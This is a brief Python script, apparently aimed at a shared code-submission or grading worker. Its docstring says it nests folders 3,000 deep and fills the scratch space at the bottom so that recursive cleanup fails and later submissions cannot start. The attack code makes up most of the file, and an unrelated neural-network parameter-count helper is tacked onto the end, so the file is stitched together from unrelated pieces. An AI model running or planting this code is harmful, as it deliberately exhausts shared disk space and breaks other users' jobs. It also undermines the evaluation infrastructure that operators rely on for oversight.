"""Builds a chain of folders 3,000 levels deep in its scratch and fills the scratch at the bottom:
a recursive cleanup (shutil.rmtree) stops at Python's recursion limit and leaves it all there, so
the next submission on this worker finds no room to start."""
import os

for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
chunk, written = b"\0" * (16 << 20), 0
try:
    while written < 2048:  # stops at 2 GiB, should the scratch have no cap
        with open(f"fill{written}", "wb") as f:
            f.write(chunk)
        written += 16
except OSError as exc:
    print(f"full after {written} MiB: {exc.strerror}")


def dense_params(input_size, units, use_bias=True):
    return input_size * units + (units if use_bias else 0)
